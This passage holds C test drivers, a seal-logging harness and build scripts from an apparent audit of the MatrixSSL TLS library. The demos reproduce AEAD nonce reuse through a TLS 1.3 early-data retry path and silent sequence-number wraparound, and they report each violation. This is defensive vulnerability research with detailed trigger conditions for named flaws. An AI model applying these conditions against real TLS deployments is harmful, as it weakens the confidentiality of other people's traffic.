        matrixSslNewClientSession(&c, k, sid, &suite, 1, certCb, NULL, NULL, NULL, &o);
        g_phase = round ? "resumed" : "full";
        if (round) { char big[3000]; memset(big, 'e', sizeof(big)); rc = send_app(c, big, 1200); printf("early %d\n", rc); rc = send_app(c, big, 1400); printf("early %d\n", rc);} 
        rc = pump(c, s, sink);
        printf("round %d rc=%d done %d %d early=%d status=%d\n", round, rc, matrixSslHandshakeIsComplete(c), matrixSslHandshakeIsComplete(s), g_app, matrixSslGetEarlyDataStatus(c));
        send_app(c, "x", 1); send_app(s, "y", 1); rc = pump(c, s, sink); printf("app rc=%d\n", rc);
        matrixSslDeleteSession(c); matrixSslDeleteSession(s);
    }
    printf("seals %d violations %d\n", g_nseals, g_violations);
    return 0;
}
