/* Exploration driver (not a finding): TLS 1.3 full / resumed / early data / HRR
   with the seal log active. */
#include "harness.h"

static int g_appRecv;
static void sink(ssl_t *rx, unsigned char *pt, uint32 len)
{
    (void) rx; (void) pt;
    g_appRecv += len;
}

static ssl_t *new_server(sslKeys_t *keys, int earlyData, int hrrGroup)
{
    ssl_t *ssl = NULL;
    sslSessOpts_t o;
    uint16_t groups[1];
    memset(&o, 0, sizeof(o));
    o.versionFlag = SSL_FLAGS_TLS_1_3;
    o.tls13SessionMaxEarlyData = earlyData ? 16384 : 0;
    if (hrrGroup)
    {
        groups[0] = hrrGroup;
        matrixSslSessOptsSetKeyExGroups(&o, groups, 1, 1);
    }
    if (matrixSslNewServerSession(&ssl, keys, NULL, &o) < 0)
    {
        printf("new server failed\n");
        exit(2);
    }
    return ssl;
}

static ssl_t *new_client(sslKeys_t *keys, sslSessionId_t *sid, psCipher16_t suite,
    int twoGroups)
{
    ssl_t *ssl = NULL;
    sslSessOpts_t o;
    uint16_t groups[2] = { namedgroup_secp256r1, namedgroup_secp384r1 };
    int32 rc;
    memset(&o, 0, sizeof(o));
    o.versionFlag = SSL_FLAGS_TLS_1_3;
    if (twoGroups)
    {
        matrixSslSessOptsSetKeyExGroups(&o, groups, 2, 1);
    }
    rc = matrixSslNewClientSession(&ssl, keys, sid, &suite, 1, certCb,
            NULL, NULL, NULL, &o);
    if (rc < 0)
    {
        printf("new client failed %d\n", rc);
        exit(2);
    }
    return ssl;
}

int main(int argc, char **argv)
{
    sslKeys_t *ck, *sk;
    ssl_t *c, *s;
    sslSessionId_t *sid;
    psCipher16_t suites[3] = { TLS_AES_128_GCM_SHA256, TLS_AES_256_GCM_SHA384,
                               TLS_CHACHA20_POLY1305_SHA256 };
    int i, hrr;
    int32 rc;

    g_verbose = argc > 1;
    matrixSslOpen();
    ck = load_rsa_keys(0);
    sk = load_rsa_keys(1);

    for (i = 0; i < 3; i++)
    {
        for (hrr = 0; hrr < 2; hrr++)
        {
            printf("== suite %04x hrr=%d\n", suites[i], hrr);
            matrixSslNewSessionId(&sid, NULL);
            g_phase = "full";
            s = new_server(sk, 1, 0);
            c = new_client(ck, sid, suites[i], 0);
            rc = pump(c, s, sink);
            printf(" full handshake rc=%d c.done=%d s.done=%d\n", rc,
                matrixSslHandshakeIsComplete(c), matrixSslHandshakeIsComplete(s));
            g_phase = "full-app";
            send_app(c, "hello from client", 17);
            send_app(s, "hello from server", 17);
            pump(c, s, sink);
            g_phase = "full-close";
            matrixSslEncodeClosureAlert(c);
            matrixSslEncodeClosureAlert(s);
            pump(c, s, sink);
            matrixSslDeleteSession(c);
            matrixSslDeleteSession(s);

            /* resumed + early data */
            g_phase = "resumed-early";
            s = new_server(sk, 1, hrr ? namedgroup_secp384r1 : 0);
            c = new_client(ck, sid, suites[i], hrr);
            printf(" client maxEarlyData=%d\n", matrixSslGetMaxEarlyData(c));
            g_appRecv = 0;
            rc = send_app(c, "early-0", 7); printf(" early send rc=%d\n", rc);
            rc = send_app(c, "early-1", 7); printf(" early send rc=%d\n", rc);
            g_phase = "resumed-hs";
            rc = pump_one(c, s, sink);
            printf(" c->s rc=%d, early recv=%d\n", rc, g_appRecv);
            /* client tries more early data after its first flight went out */
            if (!hrr) { rc = send_app(c, "early-2", 7); printf(" early send(2) rc=%d status=%d\n", rc,
                matrixSslGetEarlyDataStatus(c)); }
            if (hrr) { rc = pump_one(s, c, sink); printf(" HRR s->c rc=%d\n", rc);
                rc = send_app(c, "early-3", 7); printf(" early send after HRR rc=%d\n", rc); }
            rc = pump(s, c, sink);
            printf(" resumed rc=%d c.done=%d s.done=%d early recv=%d status=%d\n", rc,
                matrixSslHandshakeIsComplete(c), matrixSslHandshakeIsComplete(s),
                g_appRecv, matrixSslGetEarlyDataStatus(c));
            g_phase = "resumed-app";
            send_app(c, "hello from client", 17);
            send_app(s, "hello from server", 17);
            pump(c, s, sink);
            matrixSslEncodeClosureAlert(c);
            pump(c, s, sink);
            matrixSslDeleteSession(c);
            matrixSslDeleteSession(s);
            matrixSslDeleteSessionId(sid);
        }
    }
    printf("seals=%d violations=%d\n", g_nseals, g_violations);
    return g_violations ? 1 : 0;
}
