/* C17 demo 1: TLS 1.3 client, early data x output-buffer-full retry.

   tls13EncodeResponseClient() (tls13Encode.c) clears tls13ClientEarlyDataEnabled
   *before* it writes EndOfEarlyData.  If a later message of the same flight
   (Certificate / CertificateVerify / Finished) does not fit the output buffer,
   the flight is abandoned with SSL_FULL and encoded again after the buffer has
   grown.  The second pass no longer writes EndOfEarlyData (flag already clear):
   it activates the handshake write keys at once.  But the EndOfEarlyData entry
   of the first pass is still in ssl->flightEncode, with a pointer into the old
   buffer.  encryptFlight() then
     - seals EndOfEarlyData under the *handshake* key with sequence 0,
     - re-activates the handshake key (tls13EncryptMessage, case SSL_HS_EOED),
       which puts the sequence number back to 0,
     - seals Certificate under the handshake key with sequence 0 again.
   Two different plaintexts, same key, same nonce.

   Peer needed: a server that answers a ClientHello offering early_data with a
   certificate handshake + CertificateRequest and nevertheless puts early_data
   into EncryptedExtensions (the client only checks selected_identity == 0).
   The peer is emulated with a MatrixSSL server session in which one flag is
   set by hand before it reads the ClientHello; the client library is the
   unmodified one and is driven through the public API only. */
#include "harness.h"
#include "testkeys/RSA/4096_RSA.h"
#include "testkeys/RSA/4096_RSA_KEY.h"
#include "testkeys/RSA/4096_RSA_CA.h"

static int32 acceptCert(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    (void) ssl; (void) cert; (void) alert;
    return 0;
}

int main(int argc, char **argv)
{
    sslKeys_t *ck = NULL, *sk1, *sk2 = NULL;
    ssl_t *c, *s;
    sslSessionId_t *sid;
    sslSessOpts_t o;
    psCipher16_t suite = TLS_AES_128_GCM_SHA256;
    unsigned char *ca;
    int32 rc, before;

    g_verbose = argc > 1;
    if (matrixSslOpen() < 0)
    {
        return 2;
    }
    /* client: 4096-bit identity (a big Certificate message), trusts both CAs */
    ca = malloc(RSA2048CA_SIZE + RSA4096CA_SIZE);
    memcpy(ca, RSA2048CA, RSA2048CA_SIZE);
    memcpy(ca + RSA2048CA_SIZE, RSA4096CA, RSA4096CA_SIZE);
    matrixSslNewKeys(&ck, NULL);
    if (matrixSslLoadRsaKeysMem(ck, RSA4096, RSA4096_SIZE, RSA4096KEY, RSA4096KEY_SIZE,
            ca, RSA2048CA_SIZE + RSA4096CA_SIZE) < 0)
    {
        printf("client key load failed\n");
        return 2;
    }
    sk1 = load_rsa_keys(1);     /* honest server, issues tickets */
    matrixSslNewKeys(&sk2, NULL); /* second server: no ticket keys, cannot resume */
    if (matrixSslLoadRsaKeysMem(sk2, RSA2048, RSA2048_SIZE, RSA2048KEY, RSA2048KEY_SIZE,
            ca, RSA2048CA_SIZE + RSA4096CA_SIZE) < 0)
    {
        printf("server key load failed\n");
        return 2;
    }

    /* 1. ordinary TLS 1.3 handshake: the client obtains a ticket that allows
          early data */
    g_phase = "conn1";
    matrixSslNewSessionId(&sid, NULL);
    memset(&o, 0, sizeof(o));
    o.versionFlag = SSL_FLAGS_TLS_1_3;
    o.tls13SessionMaxEarlyData = 16384;
    if (matrixSslNewServerSession(&s, sk1, NULL, &o) < 0)
    {
        return 2;
    }
    memset(&o, 0, sizeof(o));
    o.versionFlag = SSL_FLAGS_TLS_1_3;
    if (matrixSslNewClientSession(&c, ck, sid, &suite, 1, certCb, NULL, NULL, NULL, &o) < 0)
    {
        return 2;
    }
    rc = pump(c, s, NULL);
    printf("connection 1: rc=%d client done=%d server done=%d\n", rc,
        matrixSslHandshakeIsComplete(c), matrixSslHandshakeIsComplete(s));
    matrixSslDeleteSession(c);
    matrixSslDeleteSession(s);

    /* 2. second connection, the client offers its ticket and early_data */
    g_phase = "conn2";
    memset(&o, 0, sizeof(o));
    o.versionFlag = SSL_FLAGS_TLS_1_3;
    o.tls13SessionMaxEarlyData = 16384;
    if (matrixSslNewServerSession(&s, sk2, acceptCert, &o) < 0) /* client auth on */
    {
        return 2;
    }
    s->tls13ServerEarlyDataEnabled = PS_TRUE; /* the peer's deviation: early_data
                                                 in EE without a selected PSK */
    memset(&o, 0, sizeof(o));
    o.versionFlag = SSL_FLAGS_TLS_1_3;
    if (matrixSslNewClientSession(&c, ck, sid, &suite, 1, certCb, NULL, NULL, NULL, &o) < 0)
    {
        return 2;
    }
    printf("connection 2: client offers early data (max %d), inbuf %d bytes\n",
        matrixSslGetMaxEarlyData(c), c->insize);
    rc = pump_one(c, s, NULL);
    printf("ClientHello -> server: %d\n", rc);
    before = g_violations;
    g_phase = "conn2: client's second flight";
    g_verbose = 1;
    rc = pump_one(s, c, NULL);
    printf("server flight -> client: %d, client inbuf now %d bytes, outlen %d\n", rc,
        c->insize, c->outlen);
    printf("seal-level violations: %d\n", g_violations - before);
    if (g_violations == 0)
    {
        printf("OK: every record of the client's flight was sealed under its own (key, nonce)\n");
    }
    return g_violations ? 1 : 0;
}
