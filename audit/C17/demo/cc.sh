#!/bin/sh
# usage: cc.sh name  -> builds name from name.c
R=/tmp/seed-C17
cc -g -O1 -Wall -Wno-unused-function \
  -I$R -I$R/core/config -I$R/core/include -I$R/core/osdep/include -I$R/core/include/sfzcl \
  -DUSE_CL_PKCS -DUSE_CL_CERTLIB \
  -o $1 $1.c \
  -Wl,--wrap=psAesReadyGCM -Wl,--wrap=psAesEncryptGCM -Wl,--wrap=psChacha20Poly1305IetfEncrypt \
  $R/matrixssl/libssl_s.a $R/crypto/libcrypt_s.a $R/core/libcore_s.a -lpthread
