#!/bin/sh
# Builds all demos against the static libraries of the worktree (run `make -j4` at the top first).
set -e
cd "$(dirname "$0")"
R=$(cd ../.. && pwd)
CF="-g -O1 -Wall -Wno-unused-function -I$R -I$R/core/config -I$R/core/include -I$R/core/osdep/include -I$R/core/include/sfzcl -DUSE_CL_PKCS -DUSE_CL_CERTLIB"
WRAP="-Wl,--wrap=psAesReadyGCM -Wl,--wrap=psAesEncryptGCM -Wl,--wrap=psChacha20Poly1305IetfEncrypt"
LIBS="$R/matrixssl/libssl_s.a $R/crypto/libcrypt_s.a $R/core/libcore_s.a -lpthread"
cc $CF -o demo1 demo1.c $WRAP $LIBS
cc $CF -o demo2 demo2.c $WRAP $LIBS
cc $CF -o demo3 demo3.c $WRAP -Wl,--wrap=psAesEncryptCBC $LIBS
echo built: demo1 demo2 demo3
