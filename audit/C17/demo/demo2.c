/* C17 demo 2: write sequence numbers wrap silently.

   dtlsIncrRsn() (dtls.c) treats the 48-bit DTLS record sequence number as a
   plain counter: at 0xFFFFFFFFFFFF it goes back to 0 inside the same epoch.
   psAesIncrSec() / the increment loops in csAesGcmEncrypt(),
   csChacha20Poly1305IetfEncrypt*() (cipherSuite.c, tls13CipherSuite.c) do the
   same with the 64-bit TLS sequence number.  Nothing closes the connection,
   re-keys or refuses the send (RFC 6347 4.1, RFC 5246 6.1, RFC 8446 5.3 all
   forbid the wrap), so the record after the wrap is sealed with the nonce of
   the first record of the key (DTLS: (epoch, 0) = the Finished message).

   2^48 / 2^64 sends cannot be replayed in a demo, so the counter is moved
   close to its end by writing to the session structure (ssl->rsn,
   ssl->sec.seq); everything else goes through the public API. */
#include "harness.h"

static ssl_t *C, *S;

static void dtls_flush(ssl_t *from, ssl_t *to, int show)
{
    unsigned char *buf, *rbuf, *pt;
    uint32 ptLen;
    int32 len, rc;

    while ((len = matrixDtlsGetOutdata(from, &buf)) > 0)
    {
        if (show)
        {
            printf("  datagram: type %d epoch %02x%02x seq %02x%02x%02x%02x%02x%02x len %d\n",
                buf[0], buf[3], buf[4], buf[5], buf[6], buf[7], buf[8], buf[9], buf[10], len);
        }
        if (to)
        {
            matrixSslGetReadbuf(to, &rbuf);
            memcpy(rbuf, buf, len);
            matrixDtlsSentData(from, len);
            rc = matrixSslReceivedData(to, len, &pt, &ptLen);
            while (rc == MATRIXSSL_APP_DATA)
            {
                rc = matrixSslProcessedData(to, &pt, &ptLen);
            }
        }
        else
        {
            matrixDtlsSentData(from, len);
        }
    }
}

/* Every suite family: after the counter has been moved to its last-but-one
   value at most one more record may be sealed; anything after that would
   carry a sequence number that has been used under the same key. */
static int g_famViol;
static void run_family(const char *name, int32 ver, psCipher16_t suite, sslKeys_t *ck,
    sslKeys_t *sk)
{
    sslSessionId_t *sid;
    sslSessOpts_t o;
    ssl_t *c, *s;
    int i, sent = 0, dtls = (ver & SSL_FLAGS_DTLS) != 0;
    int32 rc;

    matrixSslNewSessionId(&sid, NULL);
    memset(&o, 0, sizeof(o));
    o.versionFlag = ver;
    matrixSslNewServerSession(&s, sk, NULL, &o);
    memset(&o, 0, sizeof(o));
    o.versionFlag = ver;
    matrixSslNewClientSession(&c, ck, sid, &suite, 1, certCb, NULL, NULL, NULL, &o);
    g_phase = name;
    if (dtls)
    {
        for (i = 0; i < 6; i++)
        {
            dtls_flush(c, s, 0);
            dtls_flush(s, c, 0);
        }
    }
    else
    {
        pump(c, s, NULL);
    }
    if (!matrixSslHandshakeIsComplete(c) || !matrixSslHandshakeIsComplete(s))
    {
        printf(" %-44s handshake FAILED\n", name);
        g_famViol++;
        return;
    }
    rc = send_app(c, "control record", 14); /* honest traffic still flows */
    if (dtls)
    {
        memset(c->rsn, 0xFF, 6);
        c->rsn[5] = 0xFE;
    }
    else
    {
        memset(c->sec.seq, 0xFF, 8);
        c->sec.seq[7] = 0xFE;
    }
    for (i = 0; i < 4; i++)
    {
        if (send_app(c, "record near the end", 19) >= 0)
        {
            sent++;
        }
    }
    if (matrixSslEncodeClosureAlert(c) >= 0 && sent > 0)
    {
        /* an alert is a record too: it needs a sequence number of its own */
        sent++;
    }
    printf(" %-44s control send rc=%d, records sealed after ff..fe: %d\n", name, rc, sent);
    if (rc < 0)
    {
        g_famViol++;
    }
    if (sent > 1)
    {
        printf("VIOLATION: %s: %d records sealed after the write sequence number was at "
            "ff..fe - the counter wrapped\n", name, sent);
        g_famViol++;
    }
    matrixSslDeleteSession(c);
    matrixSslDeleteSession(s);
    matrixSslDeleteSessionId(sid);
}

int main(int argc, char **argv)
{
    sslKeys_t *ck, *sk;
    sslSessionId_t *sid;
    sslSessOpts_t o;
    psCipher16_t suite;
    int i, dtlsViol, tlsViol;

    g_verbose = argc > 1;
    matrixSslOpen();
    matrixDtlsSetPmtu(1400);
    ck = load_rsa_keys(0);
    sk = load_rsa_keys(1);

    /* ---- DTLS 1.2, AES-128-GCM ---- */
    printf("DTLS 1.2 TLS_RSA_WITH_AES_128_GCM_SHA256\n");
    suite = TLS_RSA_WITH_AES_128_GCM_SHA256;
    matrixSslNewSessionId(&sid, NULL);
    memset(&o, 0, sizeof(o));
    o.versionFlag = SSL_FLAGS_TLS_1_2 | SSL_FLAGS_DTLS;
    matrixSslNewServerSession(&S, sk, NULL, &o);
    memset(&o, 0, sizeof(o));
    o.versionFlag = SSL_FLAGS_TLS_1_2 | SSL_FLAGS_DTLS;
    matrixSslNewClientSession(&C, ck, sid, &suite, 1, certCb, NULL, NULL, NULL, &o);
    g_phase = "dtls handshake";
    for (i = 0; i < 6; i++)
    {
        dtls_flush(C, S, 0);
        dtls_flush(S, C, 0);
    }
    printf(" handshake complete: client %d server %d, client write epoch %02x%02x next seq %02x%02x%02x%02x%02x%02x\n",
        matrixSslHandshakeIsComplete(C), matrixSslHandshakeIsComplete(S), C->epoch[0], C->epoch[1],
        C->rsn[0], C->rsn[1], C->rsn[2], C->rsn[3], C->rsn[4], C->rsn[5]);
    g_phase = "dtls app record (seq 1)";
    send_app(C, "first application record", 24);
    dtls_flush(C, S, 1);
    /* fast-forward the counter: 2^48 - 2 */
    memset(C->rsn, 0xFF, 6);
    C->rsn[5] = 0xFE;
    printf(" [client write sequence set to ff..fe]\n");
    g_phase = "dtls app records around the wrap";
    for (i = 0; i < 4; i++)
    {
        char m[32];
        snprintf(m, sizeof(m), "record %d near the wrap", i);
        if (send_app(C, m, (uint32) strlen(m)) < 0)
        {
            printf(" send refused (good)\n");
            break;
        }
        dtls_flush(C, NULL, 1);
    }
    dtlsViol = g_violations;
    matrixSslDeleteSession(C);
    matrixSslDeleteSession(S);
    matrixSslDeleteSessionId(sid);

    /* ---- TLS 1.3, AES-128-GCM ---- */
    printf("TLS 1.3 TLS_AES_128_GCM_SHA256\n");
    suite = TLS_AES_128_GCM_SHA256;
    matrixSslNewSessionId(&sid, NULL);
    memset(&o, 0, sizeof(o));
    o.versionFlag = SSL_FLAGS_TLS_1_3;
    matrixSslNewServerSession(&S, sk, NULL, &o);
    memset(&o, 0, sizeof(o));
    o.versionFlag = SSL_FLAGS_TLS_1_3;
    matrixSslNewClientSession(&C, ck, sid, &suite, 1, certCb, NULL, NULL, NULL, &o);
    g_phase = "tls13 handshake";
    pump(C, S, NULL);
    printf(" handshake complete: client %d server %d\n", matrixSslHandshakeIsComplete(C),
        matrixSslHandshakeIsComplete(S));
    g_phase = "tls13 first app record (seq 0)";
    send_app(C, "first application record", 24);
    memset(C->sec.seq, 0xFF, 8);
    C->sec.seq[7] = 0xFE;
    printf(" [client write sequence set to ff..fe]\n");
    g_phase = "tls13 app records around the wrap";
    for (i = 0; i < 3; i++)
    {
        char m[32];
        snprintf(m, sizeof(m), "record %d near the wrap", i);
        if (send_app(C, m, (uint32) strlen(m)) < 0)
        {
            printf(" send refused (good)\n");
            break;
        }
    }
    tlsViol = g_violations - dtlsViol;
    printf("nonce reuses: DTLS %d, TLS 1.3 %d\n", dtlsViol, tlsViol);
    matrixSslDeleteSession(C);
    matrixSslDeleteSession(S);
    i = g_violations;
    printf("all suite families:\n");
    run_family("TLS 1.2 TLS_RSA_WITH_AES_128_GCM_SHA256", SSL_FLAGS_TLS_1_2,
        TLS_RSA_WITH_AES_128_GCM_SHA256, ck, sk);
    run_family("TLS 1.2 TLS_RSA_WITH_AES_128_CBC_SHA", SSL_FLAGS_TLS_1_2,
        TLS_RSA_WITH_AES_128_CBC_SHA, ck, sk);
    run_family("TLS 1.1 TLS_RSA_WITH_AES_256_CBC_SHA", SSL_FLAGS_TLS_1_1,
        TLS_RSA_WITH_AES_256_CBC_SHA, ck, sk);
    run_family("TLS 1.3 TLS_AES_256_GCM_SHA384", SSL_FLAGS_TLS_1_3,
        TLS_AES_256_GCM_SHA384, ck, sk);
    run_family("TLS 1.3 TLS_CHACHA20_POLY1305_SHA256", SSL_FLAGS_TLS_1_3,
        TLS_CHACHA20_POLY1305_SHA256, ck, sk);
    run_family("DTLS 1.2 TLS_RSA_WITH_AES_128_CBC_SHA256", SSL_FLAGS_TLS_1_2 | SSL_FLAGS_DTLS,
        TLS_RSA_WITH_AES_128_CBC_SHA256, ck, sk);
    run_family("DTLS 1.0 TLS_RSA_WITH_AES_128_CBC_SHA", SSL_FLAGS_TLS_1_1 | SSL_FLAGS_DTLS,
        TLS_RSA_WITH_AES_128_CBC_SHA, ck, sk);
    g_violations = i + g_famViol;
    if (g_violations == 0)
    {
        printf("OK: no record was sealed after the write sequence number reached its end\n");
    }
    return g_violations ? 1 : 0;
}
