/* Shared helpers for the C17 audit demos.
   - link-time interposition (ld --wrap) on the AEAD seal primitives: every
     seal is logged as (key, nonce, digest of plaintext) and checked against
     all earlier seals
   - in-memory client/server plumbing */
#ifndef C17_HARNESS_H
#define C17_HARNESS_H

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdint.h>

#include "matrixssl/matrixsslImpl.h"

#include "testkeys/RSA/2048_RSA.h"
#include "testkeys/RSA/2048_RSA_KEY.h"
#include "testkeys/RSA/2048_RSA_CA.h"

/* ------------------------------------------------------------------ */
/* seal log */
typedef struct
{
    unsigned char key[32];
    unsigned char nonce[12];
    uint64_t digest;
    uint32_t len;
    int alg;            /* 1 = AES-GCM, 2 = ChaCha20-Poly1305 */
    char tag[48];       /* what the driver was doing */
} seal_t;

#define MAX_SEALS 200000
#define SEAL_HASH (1 << 19)
static int g_sealIdx[SEAL_HASH];
static seal_t g_seals[MAX_SEALS];
static int g_nseals;
static int g_violations;
static int g_verbose;
static const char *g_phase = "";

static uint64_t fnv(const unsigned char *p, size_t n)
{
    uint64_t h = 1469598103934665603ULL;
    size_t i;
    for (i = 0; i < n; i++)
    {
        h ^= p[i];
        h *= 1099511628211ULL;
    }
    return h;
}

static void hex(const unsigned char *p, int n, char *out)
{
    int i;
    for (i = 0; i < n; i++)
    {
        sprintf(out + 2 * i, "%02x", p[i]);
    }
}

static void log_seal(int alg, const unsigned char *key, const unsigned char *nonce,
    const unsigned char *pt, uint32_t len)
{
    int i;
    seal_t *s;
    char k[65], n[25];

    if (g_nseals >= MAX_SEALS)
    {
        return;
    }
    s = &g_seals[g_nseals];
    memset(s, 0, sizeof(*s));
    memcpy(s->key, key, 32);
    memcpy(s->nonce, nonce, 12);
    s->digest = fnv(pt, len);
    s->len = len;
    s->alg = alg;
    snprintf(s->tag, sizeof(s->tag), "%s", g_phase);
    hex(s->key, 8, k); hex(s->nonce, 12, n);
    if (g_verbose)
    {
        printf("  seal#%d alg=%d key=%s.. nonce=%s len=%u dig=%016llx [%s]\n",
            g_nseals, alg, k, n, len, (unsigned long long) s->digest, s->tag);
    }
    {
        uint64_t h = fnv(s->key, 32) ^ (fnv(s->nonce, 12) * 31) ^ (uint64_t) alg;
        uint32_t slot = (uint32_t) (h & (SEAL_HASH - 1));
        while (g_sealIdx[slot] != 0)
        {
            seal_t *o = &g_seals[g_sealIdx[slot] - 1];
            i = g_sealIdx[slot] - 1;
            if (o->alg == alg && !memcmp(o->key, s->key, 32) &&
                !memcmp(o->nonce, s->nonce, 12))
            {
                if (o->digest != s->digest || o->len != s->len)
                {
                    printf("VIOLATION: AEAD nonce reuse: key=%s.. nonce=%s sealed twice: "
                        "seal#%d (len %u, digest %016llx, during '%s') and "
                        "seal#%d (len %u, digest %016llx, during '%s')\n",
                        k, n, i, o->len, (unsigned long long) o->digest, o->tag,
                        g_nseals, s->len, (unsigned long long) s->digest, s->tag);
                    g_violations++;
                }
                else if (g_verbose)
                {
                    printf("  (identical re-seal of seal#%d)\n", i);
                }
            }
            slot = (slot + 1) & (SEAL_HASH - 1);
        }
        g_sealIdx[slot] = g_nseals + 1;
    }
    g_nseals++;
}

static void seal_reset(void)
{
    g_nseals = 0;
    memset(g_sealIdx, 0, sizeof(g_sealIdx));
}

/* AES-GCM: nonce is given to psAesReadyGCM, data to psAesEncryptGCM */
#define MAX_CTX 64
static struct { psAesGcm_t *ctx; unsigned char nonce[12]; int valid; } g_ready[MAX_CTX];

void __real_psAesReadyGCM(psAesGcm_t *ctx, const unsigned char IV[AES_IVLEN],
    const unsigned char *aad, psSize_t aadLen);
void __real_psAesEncryptGCM(psAesGcm_t *ctx, const unsigned char *pt,
    unsigned char *ct, uint32_t len);
psResSize_t __real_psChacha20Poly1305IetfEncrypt(psChacha20Poly1305Ietf_t *ctx,
    const unsigned char *pt, psSizeL_t ptLen, const unsigned char *iv,
    const unsigned char *aad, psSizeL_t aadLen, unsigned char *ct);

void __wrap_psAesReadyGCM(psAesGcm_t *ctx, const unsigned char IV[AES_IVLEN],
    const unsigned char *aad, psSize_t aadLen)
{
    int i, slot = -1;
    for (i = 0; i < MAX_CTX; i++)
    {
        if (g_ready[i].ctx == ctx) { slot = i; break; }
        if (slot < 0 && g_ready[i].ctx == NULL) { slot = i; }
    }
    if (slot >= 0)
    {
        g_ready[slot].ctx = ctx;
        memcpy(g_ready[slot].nonce, IV, 12);
        g_ready[slot].valid = 1;
    }
    __real_psAesReadyGCM(ctx, IV, aad, aadLen);
}

void __wrap_psAesEncryptGCM(psAesGcm_t *ctx, const unsigned char *pt,
    unsigned char *ct, uint32_t len)
{
    int i;
    unsigned char key[32];
    for (i = 0; i < MAX_CTX; i++)
    {
        if (g_ready[i].ctx == ctx && g_ready[i].valid)
        {
            /* the expanded encryption key begins with the raw key */
            memset(key, 0, sizeof(key));
            memcpy(key, ctx->key.skey, ctx->key.rounds == 14 ? 32 : 16);
            log_seal(1, key, g_ready[i].nonce, pt, len);
            g_ready[i].valid = 0;
            break;
        }
    }
    __real_psAesEncryptGCM(ctx, pt, ct, len);
}

psResSize_t __wrap_psChacha20Poly1305IetfEncrypt(psChacha20Poly1305Ietf_t *ctx,
    const unsigned char *pt, psSizeL_t ptLen, const unsigned char *iv,
    const unsigned char *aad, psSizeL_t aadLen, unsigned char *ct)
{
    log_seal(2, ctx->key, iv, pt, (uint32_t) ptLen);
    return __real_psChacha20Poly1305IetfEncrypt(ctx, pt, ptLen, iv, aad, aadLen, ct);
}

/* ------------------------------------------------------------------ */
static int32 certCb(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    (void) ssl; (void) cert; (void) alert;
    return 0; /* accept: the audit is about the record layer */
}

static sslKeys_t *load_rsa_keys(int withTicketKeys)
{
    sslKeys_t *keys = NULL;
    static unsigned char sym[32], mac[32], name[16];

    if (matrixSslNewKeys(&keys, NULL) < 0)
    {
        return NULL;
    }
    if (matrixSslLoadRsaKeysMem(keys, RSA2048, RSA2048_SIZE, RSA2048KEY,
            RSA2048KEY_SIZE, RSA2048CA, RSA2048CA_SIZE) < 0)
    {
        printf("key load failed\n");
        return NULL;
    }
#ifdef USE_STATELESS_SESSION_TICKETS
    if (withTicketKeys)
    {
        memset(sym, 0x11, sizeof(sym)); memset(mac, 0x22, sizeof(mac));
        memset(name, 0x33, sizeof(name));
        if (matrixSslLoadSessionTicketKeys(keys, name, sym, sizeof(sym), mac,
                sizeof(mac)) < 0)
        {
            printf("ticket key load failed\n");
            return NULL;
        }
    }
#endif
    return keys;
}

/* Move everything in a's outbuf to b (stream transport).  Returns the last
   matrixSslReceivedData code, delivering plaintext to the optional sink. */
typedef void (*pt_sink_t)(ssl_t *rx, unsigned char *pt, uint32 len);

static int32 feed(ssl_t *b, const unsigned char *data, int32 len, pt_sink_t sink)
{
    int32 rc = 0, off = 0, n, avail;
    unsigned char *rbuf, *pt;
    uint32 ptLen;

    while (off < len)
    {
        avail = matrixSslGetReadbuf(b, &rbuf);
        if (avail <= 0)
        {
            return PS_FAILURE;
        }
        n = len - off < avail ? len - off : avail;
        memcpy(rbuf, data + off, n);
        off += n;
        rc = matrixSslReceivedData(b, n, &pt, &ptLen);
        while (rc == MATRIXSSL_APP_DATA || rc == MATRIXSSL_RECEIVED_ALERT)
        {
            if (rc == MATRIXSSL_APP_DATA && sink)
            {
                sink(b, pt, ptLen);
            }
            if (rc == MATRIXSSL_RECEIVED_ALERT && g_verbose)
            {
                printf("  [alert level %d desc %d received]\n", pt[0], pt[1]);
            }
            rc = matrixSslProcessedData(b, &pt, &ptLen);
        }
        if (rc < 0)
        {
            return rc;
        }
    }
    return rc;
}

static int32 pump_one(ssl_t *a, ssl_t *b, pt_sink_t sink)
{
    unsigned char *out;
    unsigned char *copy;
    int32 len, rc;

    len = matrixSslGetOutdata(a, &out);
    if (len <= 0)
    {
        return 0;
    }
    copy = malloc(len);
    memcpy(copy, out, len);
    matrixSslSentData(a, len);
    rc = feed(b, copy, len, sink);
    free(copy);
    return rc < 0 ? rc : len;
}

/* ping-pong until neither side has anything to send */
static int32 pump(ssl_t *c, ssl_t *s, pt_sink_t sink)
{
    int32 rc, moved, guard = 0;
    do
    {
        moved = 0;
        rc = pump_one(c, s, sink);
        if (rc < 0) { return rc; }
        moved += rc;
        rc = pump_one(s, c, sink);
        if (rc < 0) { return rc; }
        moved += rc;
    } while (moved > 0 && ++guard < 50);
    return 0;
}

static int32 send_app(ssl_t *ssl, const char *msg, uint32 len)
{
    unsigned char *buf;
    int32 rc;

    rc = matrixSslGetWritebuf(ssl, &buf, len);
    if (rc < (int32) len)
    {
        return PS_FAILURE;
    }
    memcpy(buf, msg, len);
    return matrixSslEncodeWritebuf(ssl, len);
}

#endif
