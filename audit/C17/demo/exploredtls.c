/* Exploration driver (not a finding): DTLS with random loss / duplication /
   timer schedules.  Checks the seal log and, on the wire, that no two
   different records of an encrypted epoch share (epoch, sequence). */
#include "harness.h"

typedef struct { unsigned char hdr[8]; uint64_t dig; int len; int side; } wrec_t;
static wrec_t g_wire[2][60000];
static int g_nwire[2];
static int g_wireViol;

static void wire_check(int side, const unsigned char *d, int len)
{
    int off = 0, i;
    while (off + 13 <= len)
    {
        int rl = (d[off + 11] << 8) | d[off + 12];
        int epoch = (d[off + 3] << 8) | d[off + 4];
        if (off + 13 + rl > len)
        {
            break;
        }
        if (epoch >= 1)
        {
            uint64_t dg = fnv(d + off, 13 + rl);
            for (i = 0; i < g_nwire[side]; i++)
            {
                wrec_t *w = &g_wire[side][i];
                if (!memcmp(w->hdr, d + off + 3, 8) && (w->dig != dg || w->len != rl))
                {
                    printf("VIOLATION: side %d sent two different records with epoch %d "
                        "seq %02x%02x%02x%02x%02x%02x (len %d vs %d, phase %s)\n", side, epoch,
                        d[off + 5], d[off + 6], d[off + 7], d[off + 8], d[off + 9],
                        d[off + 10], w->len, rl, g_phase);
                    g_wireViol++;
                }
            }
            if (g_nwire[side] < 60000)
            {
